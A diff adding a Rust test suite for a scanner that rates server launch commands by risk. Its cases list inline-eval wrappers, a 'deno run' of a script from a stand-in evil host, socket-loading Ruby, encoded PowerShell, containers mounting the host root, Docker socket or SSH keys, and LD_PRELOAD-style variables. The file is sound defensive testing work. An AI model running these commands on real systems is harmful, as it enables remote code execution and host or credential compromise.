@@ -1,0 +1,214 @@
+//! Commands as people and attackers write them, and what is found about each.
+
+use super::*;
+
+fn words(line: &[&str]) -> Vec<String> {
+    let args: Vec<String> = line.iter().skip(1).map(|word| (*word).to_owned()).collect();
+    let found = findings(line[0], &args, &BTreeMap::new());
+    found.into_iter().map(|finding| finding.word).collect()
+}
+
+#[test]
+fn program_text_in_the_words_of_a_command_is_dangerous_in_any_wrapping() {
+    let cases: &[&[&str]] = &[
+        &["npx", "-c", "touch canary"],
+        &["npx", "--call=touch canary"],
+        &["npx", "-y", "-p", "a@1.0.0", "-c", "touch canary"],
+        &["/usr/local/bin/npx", "--package", "a@1.0.0", "sh", "-c", "x"],
+        &["npm", "exec", "-c", "x"],
+        &["npm", "exec", "--", "sh", "-c", "x"],
+        &["pnpm", "exec", "-c", "x"],
+        &["python", "-c", "x"],
+        &["python3.12", "-c", "x"],
+        &["/usr/bin/python3", "-Ic", "x"],
+        &["python3", "-u", "-X", "dev", "-cimport os"],
+        &["python3", "-"],
+        &["python3"],
+        &["pypy3", "-c", "x"],
+        &["node", "-e", "x"],
+        &["node", "--eval=x"],
+        &["node", "-pe", "x"],
+        &["node.exe", "--print", "x"],
+        &["node", "--import", "data:text/javascript,x"],
+        &["deno", "eval", "x"],
+        &["deno", "run", "https://evil.example/x.ts"],
+        &["bun", "-e", "x"],
+        &["bun", "x", "sh", "-c", "x"],
+        &["bash", "-lc", "x"],
+        &["bash", "--login", "-c", "x"],
+        &["sh", "-c", "x"],
+        &["sh"],
+        &["SH", "-ec", "x"],
+        &["fish", "--command=x"],
+        &["env", "sh"],
+        &["env", "sh", "-c", "x"],
+        &["env", "-i", "A=1", "bash", "-c", "x"],
+        &["env", "-S", "sh -c x"],
+        &["env", "--split-string=sh -c x"],
+        &["/usr/bin/env", "-u", "HOME", "node", "-e", "x"],
+        &["nice", "-n", "5", "sh", "-c", "x"],
+        &["timeout", "5", "sh", "-c", "x"],
+        &["nohup", "setsid", "busybox", "sh", "-c", "x"],
+        &["sudo", "-u", "root", "sh", "-c", "x"],
+        &["xargs", "sh", "-c", "x"],
+        &["find", ".", "-exec", "sh", "-c", "x", ";"],
+        &["uv", "run", "python", "-c", "x"],
+        &["uvx", "python@3.12", "-c", "x"],
+        &["uvx", "--from", "a==1.0.0", "python", "-c", "x"],
+        &["my-wrapper", "--then", "bash", "-c", "x"],
+        &["perl", "-e", "x"],
+        &["ruby", "-rsocket", "-e", "x"],
+        &["php", "-r", "x"],
+        &["awk", "BEGIN{system(\"x\")}"],
+        &["cmd", "/c", "del & x"],
+        &["cmd.exe", "/c", "powershell", "-enc", "x"],
+        &["pwsh", "-Command", "x"],
+        &["su", "-c", "x"],
+        &["script", "-qc", "x"],
+    ];
+    for case in cases {
+        assert!(words(case).contains(&"eval".to_owned()), "{case:?}");
+    }
+}
+
+#[test]
+fn programs_that_run_files_are_not_dangerous() {
+    let cases: &[&[&str]] = &[
+        &["node", "server.js", "-e", "x"],
+        &["node", "--enable-source-maps", "dist/index.js"],
+        &["node", "-r", "dotenv/config", "server.js"],
+        &["python3", "server.py", "-c", "config.toml"],
+        &["python", "-m", "mcp_server_git", "-c", "x"],
+        &["python3", "-um", "server"],
+        &["python3", "-Wdefault::DeprecationWarning", "server.py"],
+        &["bash", "start.sh"],
+        &["sh", "-x", "./start.sh", "-c"],
+        &["env", "A=1", "node", "server.js"],
+        &["npx", "-y", "a@1.2.3", "--config", "x.json"],
+        &["npx", "-y", "a@1.2.3", "-c", "x.json"],
+        &["uv", "--directory", "/x", "run", "main.py"],
+        &["uvx", "mcp-server-time==1.0.0", "--local-timezone", "UTC"],
+        &["npm", "run", "start"],
+        &["deno", "run", "-A", "server.ts"],
+        &["docker", "run", "-i", "--rm", "-e", "KEY", "mcp/git:1.2"],
+        &["docker", "run", "-v", "/data/project:/work:ro", "mcp/fs:1.0"],
+        &["cmd", "/c", "npx", "-y", "a@1.2.3"],
+        &["./server", "-c", "config"],
+        &["java", "-jar", "server.jar"],
+    ];
+    for case in cases {
+        assert_eq!(words(case), [""; 0], "{case:?}");
+    }
+}
+
+#[test]
+fn containers_that_are_open_to_the_machine_are_dangerous() {
+    let runs: &[&[&str]] = &[
+        &["-v", "/:/h"],
+        &["-v/:/h"],
+        &["-itv", "/:/h"],
+        &["--volume=/:/h"],
+        &["--volume", "/etc/..:/h"],
+        &["-v", "//:/h"],
+        &["--mount", "type=bind,source=/,target=/h"],
+        &["--mount=type=bind,src=/etc,dst=/e"],
+        &["-v", "/var/run/docker.sock:/var/run/docker.sock"],
+        &["-v", "/Users/me:/h"],
+        &["-v", "/Users/me/.ssh:/k"],
+        &["--privileged"],
+        &["--privileged=true"],
+        &["--pid=host"],
+        &["--pid", "host"],
+        &["--cap-add", "SYS_ADMIN"],
+        &["--device=/dev/sda"],
+        &["--security-opt", "seccomp=unconfined"],
+    ];
+    for options in runs {
+        for runtime in [&["docker", "run"][..], &["podman", "container", "run"]] {
+            let line = [runtime, options, &["image:1.0"]].concat();
+            assert!(words(&line).contains(&"container".to_owned()), "{line:?}");
+        }
+    }
+}
+
+#[test]
+fn a_package_without_an_exact_version_is_a_finding() {
+    let loose: &[&[&str]] = &[
+        &["npx", "-y", "pkg"],
+        &["npx", "pkg@latest"],
+        &["npx", "@scope/pkg"],
+        &["npx", "@scope/pkg@^1.2.0"],
+        &["npx", "pkg@1"],
+        &["npx", "pkg@1.x"],
+        &["npx", "--package=pkg", "tool"],
+        &["npx", "github:someone/thing"],
+        &["bunx", "pkg"],
+        &["pnpm", "dlx", "pkg"],
+        &["npm", "exec", "--", "pkg"],
+        &["uvx", "pkg"],
+        &["uvx", "pkg@latest"],
+        &["uvx", "--from", "pkg>=1.0", "tool"],
+        &["uvx", "--from", "git+https://example.com/x", "tool"],
+        &["uv", "tool", "run", "pkg"],
+        &["pipx", "run", "pkg"],
+        &["docker", "run", "-i", "--rm", "mcp/git"],
+        &["docker", "run", "-e", "A=b", "mcp/git:latest"],
+        &["docker", "run", "--name", "x", "registry:5000/mcp/git"],
+        &["go", "run", "example.com/x@latest"],
+        &["cmd", "/c", "npx", "-y", "pkg"],
+        &["env", "A=1", "npx", "pkg"],
+    ];
+    for case in loose {
+        assert_eq!(words(case), ["unpinned"], "{case:?}");
+    }
+    let digest = format!("mcp/git@sha256:{}", "0a".repeat(32));
+    let pinned: &[&[&str]] = &[
+        &["npx", "-y", "pkg@1.2.3"],
+        &["npx", "@scope/pkg@1.2.3-beta.1"],
+        &["npx", "-p", "pkg@1.2.3", "tool"],
+        &["npx", "./local"],
+        &["uvx", "pkg==1.2.3"],
+        &["uvx", "pkg@1.2.3"],
+        &["uvx", "--from", "pkg==2025.8.4", "tool"],
+        &["docker", "run", "-i", &digest],
+        &["docker", "run", "-i", "mcp/git:1.4"],
+        &["node", "server.js"],
+    ];
+    for case in pinned {
+        assert_eq!(words(case), [""; 0], "{case:?}");
+    }
+}
+
+#[test]
+fn variables_that_load_code_are_named_and_search_paths_are_noted() {
+    let env = |name: &str| BTreeMap::from([(name.to_owned(), "x".to_owned())]);
+    for name in ["LD_PRELOAD", "NODE_OPTIONS", "PYTHONSTARTUP", "BASH_ENV", "GIT_SSH_COMMAND"] {
+        let found = findings("a", &[], &env(name));
+        assert_eq!(found.len(), 1, "{name}");
+        assert!(found[0].is_danger() && found[0].word == format!("env:{name}"), "{found:?}");
+    }
+    let found = findings("env", &["LD_PRELOAD=x".to_owned(), "a".to_owned()], &BTreeMap::new());
+    assert_eq!(found[0].word, "env:LD_PRELOAD");
+    let path = findings("a", &[], &env("PYTHONPATH"));
+    assert!(path.len() == 1 && !path[0].is_danger(), "{path:?}");
+    assert_eq!(findings("a", &[], &env("API_KEY")), []);
+}
+
+#[test]
+fn a_secret_among_the_arguments_is_named_by_its_place_alone() {
+    let cases: &[&[&str]] = &[
+        &["a", "--api-key", "hunter2hunter2"],
+        &["a", "--token=hunter2hunter2"],
+        &["a", "--header", "Authorization: Bearer hunter2hunter2"],
+        &["a", "ghp_hunter2hunter2hunter2"],
+    ];
+    for case in cases {
+        let args: Vec<String> = case.iter().skip(1).map(|word| (*word).to_owned()).collect();
+        let found = findings("a", &args, &BTreeMap::new());
+        assert_eq!(found.len(), 1, "{case:?}");
+        assert!(found[0].word == "secret" && !found[0].message.contains("hunter2"), "{found:?}");
+    }
+    for fine in [&["a", "--api-key-file", "/x"][..], &["a", "--token", "--verbose"]] {
+        assert_eq!(words(fine), [""; 0], "{fine:?}");
+    }
+}
